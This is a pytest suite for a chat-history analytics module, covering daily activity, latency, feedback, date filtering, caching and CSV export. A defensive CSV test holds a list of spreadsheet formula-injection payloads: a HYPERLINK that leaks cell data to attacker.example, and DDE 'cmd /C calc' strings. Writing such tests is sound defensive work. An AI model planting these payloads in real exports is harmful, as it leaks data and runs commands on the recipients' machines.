"""Insights: exact figures from a small known history, the date filter, odd files, the cache and CSV."""

from __future__ import annotations

import csv
import io
import json
import math
from concurrent.futures import ThreadPoolExecutor
from datetime import date

import pandas as pd
import pytest

from history.insights import COLUMNS, between, message_rows, messages_frame, to_csv
from history.models import Conversation, make_message
from history.stores.json_store import JsonHistoryStore
from tests.insights_reference import (
    answer_sources,
    bucket_size,
    daily_activity,
    feedback_by_day,
    frame_of,
    headline,
    reply_times,
    top_first_questions,
)

DAY1, DAY2, DAY3 = date(2026, 3, 1), date(2026, 3, 2), date(2026, 3, 3)
NAN = math.nan


def user(text: str, at: str, **extra) -> dict:
    return make_message("user", text, created_at=at, **extra)


def reply(at: str, latency=None, first=None, usage=None, **extra) -> dict:
    """A model answer unless `source` says otherwise."""
    details = {} if latency is None else {"latency_ms": latency, "first_token_ms": first}
    if usage:
        details["usage"] = usage
    return make_message("assistant", "…", created_at=at, **details, **extra)


def tokens(prompt: int, completion: int, total: int | None = None) -> dict:
    usage = {"prompt_tokens": prompt, "completion_tokens": completion}
    return usage if total is None else {**usage, "total_tokens": total}


# Four conversations over three UTC days (2026-03-01 to 03-03). Model answers: latency / first token / tokens.
HISTORY = {
    "a": [  # day 1: two model answers, one up, one down
        user("What is Python?", "2026-03-01T10:00:00.000Z"),
        reply("2026-03-01T10:00:01.000Z", 1000, 200, tokens(10, 20, 30), feedback="up"),
        user("And Java?", "2026-03-01T10:01:00.000Z"),
        reply("2026-03-01T10:01:03.000Z", 3000, 400, tokens(15, 25, 40), feedback="down"),
    ],
    "b": [  # starts late on day 1; its scripted answer lands on day 2, unrated
        user("what is python", "2026-03-01T23:59:00.000Z"),
        reply("2026-03-02T00:00:30.000Z", source="scripted"),
    ],
    "c": [  # day 3: a fallback, a model answer, and a stopped one (its latency is left out)
        user("¿Cómo cambio mi contraseña?", "2026-03-03T08:00:00.000Z"),
        reply("2026-03-03T08:00:01.000Z", source="fallback"),
        user("hello", "2026-03-03T08:05:00.000Z"),
        reply("2026-03-03T08:05:02.000Z", 2000, 300, {"total_tokens": 50}, feedback="up"),
        user("more", "2026-03-03T08:06:00.000Z"),
        reply("2026-03-03T08:06:00.500Z", 500, 100, tokens(5, 5, 10), status="stopped", feedback="down"),
    ],
    "d": [  # a system prompt (not a row), then a time with an offset: 01:30+02:00 is day 3 in UTC
        make_message("system", "Be brief.", created_at="2026-03-03T23:00:00.000Z"),
        user("what is python", "2026-03-04T01:30:00+02:00"),
        reply("2026-03-03T23:30:04.000Z", 4000, 600, tokens(12, 8), feedback="up"),
    ],
}


def save(store: JsonHistoryStore, cid: str, messages: list[dict]) -> None:
    store.create(Conversation(id=cid, model="m", created_at=messages[0]["created_at"], messages=messages))


def saved_history(root) -> JsonHistoryStore:
    """A folder holding HISTORY."""
    store = JsonHistoryStore(root)
    for cid, messages in HISTORY.items():
        save(store, cid, messages)
    return store


@pytest.fixture
def store(tmp_path) -> JsonHistoryStore:
    return saved_history(tmp_path / "conversations")


@pytest.fixture
def frame(store) -> pd.DataFrame:
    return store.insight_rows()


def days(table: pd.DataFrame) -> list[date]:
    return [moment.date() for moment in table.index]


def column(table: pd.DataFrame, name: str) -> list:
    return [None if pd.isna(value) else value for value in table[name]]


def test_one_row_per_user_or_assistant_message_with_compact_types(frame):
    assert list(frame.columns) == COLUMNS
    assert len(frame) == 14  # the system message is not a row
    assert str(frame["created_at"].dtype) == "datetime64[us, UTC]"
    for name in ("conversation_id", "role", "source", "feedback", "status"):
        assert frame[name].dtype == "category", name
    assert frame["latency_ms"].dtype == "Int32"
    d = frame[frame["conversation_id"] == "d"]
    assert list(d["created_at"]) == [
        pd.Timestamp("2026-03-03T23:30:00Z"),
        pd.Timestamp("2026-03-03T23:30:04Z"),
    ]
    assert column(d, "source") == [None, "model"]
    assert column(d, "total_tokens") == [None, 20]  # prompt + completion when no total was reported
    assert column(d, "first_question") == ["what is python", None]
    c = frame[frame["conversation_id"] == "c"]
    assert column(c, "source") == [None, "fallback", None, "model", None, "model"]
    assert column(c, "status") == [None] * 5 + ["stopped"]
    assert column(c, "first_question") == ["¿Cómo cambio mi contraseña?"] + [None] * 5
    assert frame.groupby("conversation_id", observed=True)["starts_conversation"].sum().to_dict() == {
        "a": 1,
        "b": 1,
        "c": 1,
        "d": 1,
    }


def test_daily_activity_counts_conversations_on_the_day_of_their_first_message(frame):
    daily = daily_activity(frame)
    assert days(daily) == [DAY1, DAY2, DAY3]
    assert column(daily, "conversations") == [2, 0, 2]
    assert column(daily, "messages") == [5, 1, 8]


def test_daily_activity_fills_quiet_days_with_zero():
    quiet = Conversation(
        id="q", messages=[user("hi", "2026-03-01T12:00:00Z"), user("back", "2026-03-04T12:00:00Z")]
    )
    daily = daily_activity(frame_of([quiet]))
    assert days(daily) == [DAY1, DAY2, DAY3, date(2026, 3, 4)]
    assert column(daily, "conversations") == [1, 0, 0, 0]
    assert column(daily, "messages") == [1, 0, 0, 1]


def test_reply_times_per_day_for_model_answers_only(frame):
    times = reply_times(frame)
    assert days(times) == [DAY1, DAY2, DAY3]
    assert column(times, "latency_median_ms") == [2000.0, None, 3000.0]  # day 3 leaves out the stopped reply
    assert column(times, "latency_p90_ms") == [2800.0, None, 3800.0]
    assert column(times, "first_token_median_ms") == [300.0, None, 300.0]  # 100, 300, 600
    assert column(times, "total_tokens") == [70, 0, 80]


def test_feedback_by_day(frame):
    feedback = feedback_by_day(frame)
    assert days(feedback) == [DAY1, DAY2, DAY3]
    assert column(feedback, "up") == [1, 0, 2]
    assert column(feedback, "down") == [1, 0, 1]
    assert column(feedback, "share_up") == [0.5, None, 2 / 3]


def test_answer_sources_always_lists_all_three(frame):
    sources = answer_sources(frame)
    assert sources["answers"].to_dict() == {"model": 5, "scripted": 1, "fallback": 1}
    assert sources["share"].to_dict() == {"model": 5 / 7, "scripted": 1 / 7, "fallback": 1 / 7}
    scripted_only = answer_sources(frame[frame["source"] == "scripted"])
    assert scripted_only["answers"].to_dict() == {"model": 0, "scripted": 1, "fallback": 0}


def test_top_first_questions_group_spellings_under_the_most_common(frame):
    top = top_first_questions(frame)
    assert top.to_dict("list") == {
        "question": ["what is python", "¿Cómo cambio mi contraseña?"],
        "conversations": [3, 1],
    }
    assert top_first_questions(frame, n=1)["question"].tolist() == ["what is python"]


def test_top_first_questions_ignore_case_spaces_and_trailing_punctuation():
    asked = [
        ("p1", "  How do I   reset my password?! ", "2026-03-01T09:00:00Z"),
        ("p2", "how do i reset\nmy password", "2026-03-01T10:00:00Z"),
        ("p3", "HOW DO I RESET MY PASSWORD.", "2026-03-02T10:00:00Z"),
        ("h1", "Hello", "2026-03-01T08:00:00Z"),
        ("h2", "hello!", "2026-03-02T08:00:00Z"),
        ("h3", "hello", "2026-03-03T08:00:00Z"),
        ("x1", "?!.", "2026-03-01T08:00:00Z"),  # nothing left to group by
    ]
    conversations = [Conversation(id=cid, messages=[user(text, at)]) for cid, text, at in asked]
    top = top_first_questions(frame_of(conversations))
    # 3 each: the earlier-asked question first; no spelling is more common, so the earliest one names it
    assert top.to_dict("list") == {
        "question": ["Hello", "  How do I   reset my password?! "],
        "conversations": [3, 3],
    }


def test_headline(frame):
    assert headline(frame) == {
        "conversations": 4,
        "active_conversations": 4,
        "messages": 14,
        "median_latency_ms": 2500.0,  # 1000, 2000, 3000, 4000: the stopped reply is left out
        "thumbs_up_share": 3 / 5,
        "scripted_share": 1 / 7,
    }


def test_between_keeps_whole_utc_days_at_both_ends(frame):
    assert len(between(frame, None, None)) == 14
    assert len(between(frame, DAY1, DAY1)) == 5
    assert len(between(frame, None, DAY1)) == 5
    assert len(between(frame, DAY2, None)) == 9
    assert len(between(frame, DAY3, DAY3)) == 8
    assert len(between(frame, date(2026, 3, 4), None)) == 0
    late = between(frame, DAY2, DAY3)
    assert column(daily_activity(late), "conversations") == [0, 2]  # b started on day 1
    assert headline(late)["conversations"] == 2
    assert headline(late)["active_conversations"] == 3


def test_ill_typed_fields_count_as_missing(store):
    odd = {
        "schema_version": 1,
        "id": "odd",
        "title": "hand-edited",
        "created_at": "2026-03-02T00:00:00Z",
        "messages": [
            {"role": "user", "content": "Is this a question", "created_at": "12345"},
            {"role": "assistant", "content": "a", "created_at": "yesterday"},
            {
                "role": "assistant",
                "content": "b",
                "created_at": "2026-03-02T12:00:00",  # no zone: UTC
                "latency_ms": 812.6,
                "first_token_ms": -5,
                "usage": {"completion_tokens": None},
                "source": "oracle",
            },
        ],
    }
    (store.root / "odd.json").write_text(json.dumps(odd), encoding="utf-8")
    wrong_types = {"latency_ms": "fast", "usage": "lots", "feedback": 1, "source": ["scripted"]}
    bad = odd | {"id": "bad", "messages": [odd["messages"][0], odd["messages"][1] | wrong_types]}
    (store.root / "bad.json").write_text(json.dumps(bad), encoding="utf-8")  # does not fit: left out
    frame = store.insight_rows()
    assert "bad" not in set(frame["conversation_id"])
    rows = frame[frame["conversation_id"] == "odd"]
    assert column(rows, "created_at") == [None, None, pd.Timestamp("2026-03-02T12:00:00Z")]
    assert column(rows, "source") == [None, "model", "model"]
    assert column(rows, "latency_ms") == [None, None, 813]
    for name in ("first_token_ms", "prompt_tokens", "completion_tokens", "total_tokens"):
        assert column(rows, name) == [None, None, None], name
    for name in ("feedback", "status"):
        assert column(rows, name) == [None, None, None], name
    assert column(rows, "first_question") == ["Is this a question", None, None]
    assert column(daily_activity(frame), "messages") == [5, 2, 8]  # the undated rows are on no day
    assert headline(frame)["messages"] == 17
    assert len(between(frame, None, None)) == 17
    assert len(between(frame, DAY1, DAY3)) == 15


def test_message_rows_are_plain_tuples_in_column_order():
    conversation = Conversation(id="t", messages=["not a message", *HISTORY["d"]])  # built in memory
    rows = message_rows(conversation)
    no_numbers = (None,) * 5
    assert rows == [
        ("t", "2026-03-04T01:30:00+02:00", "user", None, *no_numbers, None, "what is python", None, True),
        (
            "t",
            "2026-03-03T23:30:04.000Z",
            "assistant",
            "model",
            4000,
            600,
            12,
            8,
            20,
            "up",
            None,
            None,
            False,
        ),
    ]
    assert messages_frame(rows).equals(frame_of([conversation]))


def test_the_rows_come_from_the_index_and_follow_every_change(store):
    first = store.insight_rows()
    again = JsonHistoryStore(store.root).insight_rows()  # another session's store object: the same index
    assert store.last_scan.parsed == 0 and again.equals(first)  # this process wrote every file
    assert first.equals(frame_of(store.get(cid) for cid in HISTORY))

    store.append("a", user("Thanks!", "2026-03-03T09:00:00.000Z"))
    save(store, "e", [user("New here", "2026-03-03T10:00:00.000Z")])
    store.delete("b")
    changed = store.insight_rows()
    assert (store.last_scan.parsed, store.last_scan.removed, store.count()) == (0, 1, 4)
    counts = changed["conversation_id"].value_counts().to_dict()
    assert counts == {"a": 5, "c": 6, "d": 2, "e": 1}  # no category is left for the deleted one
    assert changed["conversation_id"].dtype == "category"
    assert column(daily_activity(changed), "messages") == [4, 0, 10]

    store.restore("b")  # moved back: read again, as any file the index did not see written
    assert len(store.insight_rows()) == 16
    assert store.last_scan.names == ["b.json"]


def test_deleting_every_conversation_leaves_an_empty_frame_the_figures_accept(store):
    store.insight_rows()
    for cid in HISTORY:
        store.delete(cid)
    frame = store.insight_rows()
    assert store.last_scan.removed == 4
    assert len(frame) == 0
    assert list(frame.columns) == COLUMNS
    assert daily_activity(frame).empty
    assert reply_times(frame).empty
    assert feedback_by_day(frame).empty
    assert top_first_questions(frame).empty
    assert answer_sources(frame)["answers"].to_dict() == {"model": 0, "scripted": 0, "fallback": 0}
    assert headline(frame)["median_latency_ms"] is None


def test_changing_a_returned_frame_changes_nothing_stored(store):
    frame = store.insight_rows()
    frame["latency_ms"] = 1
    frame.loc[0, "created_at"] = pd.NaT
    del frame["role"]
    assert len(store.insight_rows()) == 14
    assert headline(store.insight_rows())["median_latency_ms"] == 2500.0


def test_sessions_share_one_index_across_threads(store):
    with ThreadPoolExecutor(max_workers=8) as pool:
        sizes = list(pool.map(lambda _: len(JsonHistoryStore(store.root).insight_rows()), range(16)))
    assert sizes == [14] * 16


def test_csv_is_utf8_with_iso_times(frame):
    data = to_csv(frame)
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8"))))
    assert list(rows[0]) == COLUMNS
    assert len(rows) == 14
    assert rows[0] == {
        "conversation_id": "a",
        "created_at": "2026-03-01T10:00:00.000Z",
        "role": "user",
        "source": "",
        "latency_ms": "",
        "first_token_ms": "",
        "prompt_tokens": "",
        "completion_tokens": "",
        "total_tokens": "",
        "feedback": "",
        "first_question": "What is Python?",
        "status": "",
        "starts_conversation": "True",
    }
    assert rows[1]["latency_ms"] == "1000"
    assert rows[1]["total_tokens"] == "30"
    assert [row["created_at"] for row in rows[-2:]] == [
        "2026-03-03T23:30:00.000Z",
        "2026-03-03T23:30:04.000Z",
    ]
    assert "¿Cómo cambio mi contraseña?".encode() in data


FORMULAS = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
]


@pytest.mark.parametrize("question", FORMULAS)
def test_csv_cells_a_spreadsheet_would_run_start_with_a_quote(tmp_path, question):
    store = JsonHistoryStore(tmp_path / "conversations")
    answer = reply("2026-03-01T10:00:01.000Z", 1000, 200, tokens(10, 20, 30))
    save(store, "a1", [user(question, "2026-03-01T10:00:00.000Z"), answer])
    rows = list(csv.DictReader(io.StringIO(to_csv(store.insight_rows()).decode("utf-8"), newline="")))
    asked = rows[0]
    assert asked["first_question"] == "'" + question  # shown as the text it is, never run
    assert asked["conversation_id"] == "a1" and asked["created_at"] == "2026-03-01T10:00:00.000Z"
    assert rows[1]["latency_ms"] == "1000" and rows[1]["total_tokens"] == "30"  # numbers stay numbers


def test_csv_cells_that_only_look_alike_are_unchanged(frame):
    rows = list(csv.DictReader(io.StringIO(to_csv(frame).decode("utf-8"))))
    assert [row["first_question"] for row in rows if row["first_question"]] == [
        "What is Python?", "what is python", "¿Cómo cambio mi contraseña?", "what is python",
    ]
    assert rows[0]["created_at"] == "2026-03-01T10:00:00.000Z"


# Times a clock or an import got wrong: the first and last days pandas' old nanosecond times could hold.
FAR_APART = [
    Conversation(id="early", messages=[
        user("from 1677", "1677-09-22T12:00:00Z"),
        reply("1677-09-22T12:00:01Z", 1000, 100, tokens(1, 2, 3), feedback="up"),
    ]),
    Conversation(id="late", messages=[
        user("from 2262", "2262-04-10T12:00:00Z"),
        reply("2262-04-10T12:00:02Z", 2000, 200, tokens(2, 3, 5)),
    ]),
]


def test_centuries_apart_are_counted_per_decade_not_per_day():
    frame = frame_of(FAR_APART)
    assert bucket_size(frame) == "decade"
    for table in (daily_activity(frame), reply_times(frame), feedback_by_day(frame)):
        assert len(table) == 60  # 1670 to 2260, not 213,000 days
        assert table.index[0].date() == date(1670, 1, 1) and table.index[-1].date() == date(2260, 1, 1)
    activity = daily_activity(frame)
    assert activity["conversations"].sum() == 2 and activity["messages"].sum() == 4
    assert column(reply_times(frame), "total_tokens")[0] == 3 and feedback_by_day(frame)["up"].sum() == 1


@pytest.mark.parametrize(
    ("last_day", "size", "rows"),
    [
        ("2026-03-01", "day", 1),
        ("2027-03-01", "day", 366),  # a year and a day still shows every day
        ("2028-03-01", "week", 106),  # Mondays from 2026-02-23 to 2028-02-28
        ("2040-03-01", "month", 14 * 12 + 1),
        ("2300-03-01", "year", 275),
        ("2600-03-01", "decade", 59),
        ("9999-12-31", "century", 80),
    ],
)
def test_the_bucket_grows_with_the_range_and_never_makes_more_than_400_rows(last_day, size, rows):
    first = Conversation(id="first", messages=[user("a", "2026-03-01T10:00:00Z")])
    last = Conversation(id="last", messages=[user("b", f"{last_day}T10:00:00Z")])
    frame = frame_of([first, last])
    activity = daily_activity(frame)
    assert bucket_size(frame) == size and len(activity) == rows <= 400
    assert activity["conversations"].sum() == 2 and activity.index.is_monotonic_increasing
